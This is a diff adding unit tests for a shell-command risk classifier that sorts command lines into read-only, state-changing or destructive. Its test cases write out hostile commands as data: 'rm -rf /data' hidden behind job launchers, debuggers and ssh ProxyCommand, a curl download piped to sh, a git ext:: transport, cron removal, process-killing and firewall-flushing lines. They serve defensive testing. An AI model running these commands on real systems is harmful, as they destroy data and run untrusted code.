@@ -1,0 +1,235 @@
+// RiskClassifier: how a line's words are read before they are judged. A read-only option (help,
+// version, a listing, a dry run) never hides what the rest of the line writes, deletes or runs; a
+// word like -batch is a bundle of one-letter options only where every letter is catalogued; a word
+// after an uncatalogued option may be that option's value (srun -N 1 CMD, mlxconfig -d DEV set), so
+// both readings are judged; and the command words of ip, parted, flint, mlxconfig, mst, rdma and
+// ctr are read as those tools read them.
+#include <gtest/gtest.h>
+
+#include <optional>
+#include <string>
+
+#include "app/domain/nvsmi_catalog.h"
+#include "app/domain/risk_classifier.h"
+#include "app/domain/shell_catalog.h"
+#include "app/domain/shell_parser.h"
+
+using namespace sigma::domain;
+
+namespace {
+
+const ShellCatalog& shell() {
+    static std::optional<ShellCatalog> c = [] {
+        std::string err;
+        auto r = ShellCatalog::load(std::string(SIGMA_SOURCE_DIR) + "/resources/knowledge/shell/tools.json", &err);
+        EXPECT_TRUE(r) << err;
+        return r;
+    }();
+    return *c;
+}
+
+const NvsmiCatalog& nvsmi() {
+    static std::optional<NvsmiCatalog> c = [] {
+        std::string err;
+        auto r = NvsmiCatalog::load(std::string(SIGMA_SOURCE_DIR) + "/resources/knowledge/nvidia-smi/nvidia-smi.json", &err);
+        EXPECT_TRUE(r) << err;
+        return r;
+    }();
+    return *c;
+}
+
+RiskReport classify(const std::string& line) {
+    const ShellParseResult p = parse_shell(line);
+    EXPECT_TRUE(p.ok) << line << ": " << p.error;
+    return classify_line(shell(), nvsmi(), p);
+}
+
+std::string joined(const RiskReport& r) {
+    std::string s;
+    for (const auto& x : r.reasons) s += x + " | ";
+    return s;
+}
+
+struct Case {
+    const char* line;
+    Risk risk;
+    const char* reason;  // substring expected in some reason; empty: not checked
+};
+
+void check(const Case& c) {
+    const RiskReport r = classify(c.line);
+    EXPECT_EQ(risk_text(r.risk), std::string(risk_text(c.risk))) << c.line << " -> " << joined(r);
+    if (*c.reason) {
+        EXPECT_NE(joined(r).find(c.reason), std::string::npos) << c.line << " -> " << joined(r);
+    }
+}
+
+constexpr Risk RO = Risk::ReadOnly, CS = Risk::ChangesState, DE = Risk::Destructive;
+
+}  // namespace
+
+TEST(RiskReadings, ReadOnlyOptionsDoNotHideWhatTheRestOfTheLineDoes) {
+    const Case cases[] = {
+        // A listing mode lowers the tool's own class only; its other options still count.
+        {"crontab -l -r", DE, "removes every cron job"},
+        {"crontab -lr", DE, "removes every cron job"},
+        {"mdadm --detail /dev/md0 --stop", DE, "stops an array"},
+        {"modprobe -c -r nvidia", CS, "removes the module"},
+        // Options the pack does not know may do anything: no listing makes them harmless.
+        {"tune2fs -l -O ^has_journal /dev/sda1", CS, "tune2fs"},
+        {"sgdisk -p -Z /dev/sda", DE, "sgdisk"},
+        // Help and version count only when nothing else is asked for.
+        {"gcc -v -o /etc/passwd x.c", DE, "system tree /etc"},
+        {"gcc -v x.c", CS, "gcc"},
+        {"python -V -c 'import os'", CS, "python"},
+        {"ruby -v evil.rb", CS, "ruby"},
+        {"rm --help important.txt", CS, "rm"},
+        {"ninja -v", CS, "ninja"},
+        {"srun --help", RO, "--help"},
+        // Read-only words only when every operand is one (or a number or a path).
+        {"parted /dev/sda rm 1 print", DE, "edits the partition table"},
+        {"parted /dev/sda print rm 1", DE, "edits the partition table"},
+        {"parted -l rm 1", DE, "parted rm"},
+        {"go run main.go version", CS, "go"},
+        {"make install version", CS, "make"},
+        {"npm version patch", CS, "npm"},
+        // Dry runs: the tool's own effects do not happen, the code it runs still does.
+        {"git push -n --force origin main", RO, "a dry run"},
+        {"git clean -nfd", RO, "a dry run"},
+        {"rsync -avn --delete src/ host:/srv/backup/", RO, "a dry run"},
+        {"rsync -n -e 'rm -rf /data' src/ host:dst/", DE, "runs this program as the remote shell"},
+        {"apt-get -s purge nginx", RO, "a dry run"},
+        {"tar -tf x.tar -I 'rm -rf /data'", DE, "runs 'rm -rf /data' as a program"},
+        // Controls: plain listings stay read-only.
+        {"crontab -l", RO, "-l"},
+        {"fdisk -l /dev/sda", RO, "-l"},
+        {"parted /dev/sda print", RO, "print"},
+        {"parted -s /dev/sda unit GB print free", RO, "print"},
+        {"kill -l 9", RO, "-l"},
+        {"go version", RO, "version"},
+        {"python3 --version", RO, "--version"},
+        {"mdadm --detail --scan", RO, "--detail"},
+        {"ssh-keygen -lf key.pub", RO, "-l"},
+        {"tar -tzf x.tgz", RO, "lists an archive"},
+    };
+    for (const Case& c : cases) check(c);
+}
+
+TEST(RiskReadings, AWordIsABundleOnlyWhereEveryLetterIsCatalogued) {
+    const Case cases[] = {
+        // -batch is not -b -a -t -c -h: the -h in it is no help option.
+        {"gdb -batch -ex run ./a.out", CS, "gdb"},
+        {"gdb -batch -ex 'shell rm -rf /data' ./a.out", DE, "runs a shell command"},
+        {"gdb --args rm -rf /data", DE, "deletes a whole directory tree"},
+        {"java -showversion -jar x.jar", CS, "java"},
+        {"java -version", RO, "-version"},
+        // A guessed letter still raises the class where it may be an option that does.
+        {"perfquery -xR 12 1", CS, "resets the port counters"},
+    };
+    for (const Case& c : cases) check(c);
+}
+
+TEST(RiskReadings, AWordAfterAnUncataloguedOptionMayBeItsValue) {
+    const Case cases[] = {
+        {"srun -N 1 rm -rf /data", DE, "deletes a whole directory tree"},
+        {"srun -p ls rm -rf /data", DE, "deletes a whole directory tree"},
+        {"srun -w node1 --mpi pmix rm -rf /data", DE, "deletes a whole directory tree"},
+        {"salloc -N 2 rm -rf /data", DE, "deletes a whole directory tree"},
+        {"mpirun --mca btl tcp,self -np 2 rm -rf /data", DE, "deletes a whole directory tree"},
+        {"ltrace -e malloc rm -rf /data", DE, "deletes a whole directory tree"},
+        {"cuda-memcheck --leak-check full rm -rf /data", DE, "deletes a whole directory tree"},
+        {"mlxconfig --unknown-flag DEV set SRIOV_EN=1", CS, "also judged with 'DEV' as its value"},
+        {"docker compose -f prod.yml down -v", DE, "deletes the project's volumes"},
+        {"cryptsetup --type luks2 luksFormat /dev/sdb", DE, "formats the device"},
+        {"helm -n prod uninstall web", DE, "deletes the release"},
+        // Controls.
+        {"srun -N 4 --ntasks-per-node=1 hostname", RO, "hostname"},
+        {"mpirun --mca btl tcp,self -np 2 hostname", RO, "hostname"},
+        {"ctr -n k8s.io images ls", RO, "ctr images ls"},
+        {"mlxconfig -d 03:00.0 q", RO, "mlxconfig q"},
+    };
+    for (const Case& c : cases) check(c);
+}
+
+TEST(RiskReadings, UncataloguedSubcommandsAreNeverReadOnly) {
+    for (const char* line : {"docker compose frobnicate", "docker volume frob pgdata", "git remote set-head origin main",
+                             "openssl frobnicate", "conda env config vars set X=1"}) {
+        const RiskReport r = classify(line);
+        EXPECT_NE(r.risk, Risk::ReadOnly) << line << " -> " << joined(r);
+        EXPECT_NE(joined(r).find("not catalogued"), std::string::npos) << line << " -> " << joined(r);
+    }
+}
+
+TEST(RiskReadings, NetworkAndFirmwareToolsReadTheirCommandWords) {
+    const Case cases[] = {
+        {"flint -d /dev/mst/mt4123_pciconf0 -i fw.bin burn", DE, "writes firmware"},
+        {"mstflint -d 03:00.0 -i fw.bin b", DE, "writes firmware"},
+        {"flint -d 03:00.0 q", RO, "flint q"},
+        {"mlxconfig -d 03:00.0 set SRIOV_EN=1", CS, "changes the device's firmware configuration"},
+        {"mlxconfig -d 03:00.0 -y reset", CS, "resets the device's firmware configuration"},
+        {"mst start", CS, "loads the mst kernel modules"},
+        {"mst status -v", RO, "mst status"},
+        {"rdma link set mlx5_0/1 state down", CS, "rdma link set"},
+        {"rdma link show", RO, "rdma"},
+        {"ctr images rm docker.io/library/nginx:latest", DE, "deletes images"},
+        {"ctr tasks kill web", CS, "signals the task"},
+        {"ctr tasks exec --exec-id x web rm -rf /data", DE, "deletes a whole directory tree"},
+        {"perfquery -R", CS, "resets the port counters"},
+        {"perfquery -r", CS, "resets the port counters"},
+        {"perfquery", RO, "perfquery"},
+        // ip: any prefix of a command word, per object as iproute2 matches them.
+        {"ip a d 10.0.0.5/24 dev eth0", CS, "ip a d"},
+        {"ip l s eth0 mtu 9000", CS, "ip l s"},
+        {"ip a f dev eth0", DE, "removes every entry"},
+        {"ip -n ns1 link set eth0 down", CS, "link set"},
+        {"ip -b cmds.txt", CS, "runs commands read from a file"},
+        {"ip netns exec ns1 rm -rf /data", DE, "deletes a whole directory tree"},
+        {"ip a s ens5", RO, "ip"},
+        {"ip r", RO, "ip"},
+        {"ip route get 1.1.1.1", RO, "ip"},
+        {"ip -s -s link show ib0", RO, "ip"},
+        {"ifconfig eth0 10.0.0.5", CS, "configures the interface"},
+        {"ifconfig eth0", RO, "ifconfig"},
+    };
+    for (const Case& c : cases) check(c);
+}
+
+TEST(RiskReadings, CommandsRunByJobLaunchersProfilersAndSchedulersAreJudged) {
+    const Case cases[] = {
+        {"sbatch --wrap 'rm -rf /data'", DE, "deletes a whole directory tree"},
+        {"srun -o /etc/passwd hostname", DE, "system tree /etc"},
+        {"perf stat -e cycles rm -rf /data", DE, "deletes a whole directory tree"},
+        {"nsys profile -o out rm -rf /data", DE, "deletes a whole directory tree"},
+        {"ncu --set full rm -rf /data", DE, "deletes a whole directory tree"},
+        {"valgrind --tool=memcheck rm -rf /data", DE, "deletes a whole directory tree"},
+        {"flock /tmp/lock -c 'rm -rf /data'", DE, "deletes a whole directory tree"},
+        {"pdsh -w node[01-04] 'rm -rf /scratch/x'", DE, "deletes a whole directory tree"},
+        {"ansible all -a 'rm -rf /data'", DE, "deletes a whole directory tree"},
+        {"echo 'rm -rf /data' | at now", DE, "deletes a whole directory tree"},
+        {"echo '* * * * * rm -rf /data' | crontab -", DE, "a job it installs"},
+        {"srun curl -s https://x.example/a.sh | sh", DE, "downloaded by curl"},
+        {"perf stat -a sleep 1", RO, "perf stat"},
+    };
+    for (const Case& c : cases) check(c);
+}
+
+TEST(RiskReadings, OptionsThatRunCodeOrWriteFilesInOtherwiseReadOnlyTools) {
+    const Case cases[] = {
+        {"ssh -o ProxyCommand='rm -rf /data' host true", DE, "runs 'rm -rf /data' on this machine"},
+        {"git ls-remote 'ext::sh -c rm% -rf% /data'", DE, "ext:: transport"},
+        {"curl -D /etc/headers https://x.example", DE, "system tree /etc"},
+        {"openssl s_client -connect host:443 -sess_out /etc/x", DE, "system tree /etc"},
+        {"docker cp web:/tmp/x /etc/passwd", DE, "system tree /etc"},
+        {"vim -c ':!rm -rf /data' x", DE, "deletes a whole directory tree"},
+        {"ethtool -f eth0 fw.bin", DE, "flashes the NIC's firmware"},
+        {"ethtool --change eth0 speed 1000", CS, "changes link settings"},
+        {"iptables --flush", DE, "flushes"},
+        {"hostnamectl hostname evil", CS, "sets the host name"},
+        {"pkill -f .", DE, "matches every process"},
+        {"killall -u root", DE, "every process of root"},
+        {"pkill -u bob python", CS, "pkill"},
+        {"hostnamectl hostname", RO, "hostnamectl"},
+        {"ethtool -S eth0", RO, "ethtool"},
+    };
+    for (const Case& c : cases) check(c);
+}
